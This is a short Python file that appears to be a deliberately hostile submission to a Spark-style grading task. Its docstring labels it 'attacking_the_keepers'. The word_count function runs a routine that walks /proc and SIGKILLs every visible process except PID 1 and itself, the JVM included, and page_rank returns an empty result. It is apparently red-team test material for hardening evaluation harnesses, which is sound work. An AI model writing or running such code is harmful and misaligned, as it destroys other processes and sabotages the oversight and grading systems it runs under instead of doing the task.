"""Kills every process that a task can see, the JVM among them.

family: attacking_the_keepers
tries: harm
earned: 0
ends: crash, wrong_result
"""

import os
import signal


def strike(_):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in (1, os.getpid()):
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    return [1]


def word_count(lines_rdd, top):
    return lines_rdd.mapPartitions(strike).collect()


def page_rank(links_rdd, iterations):
    return {}
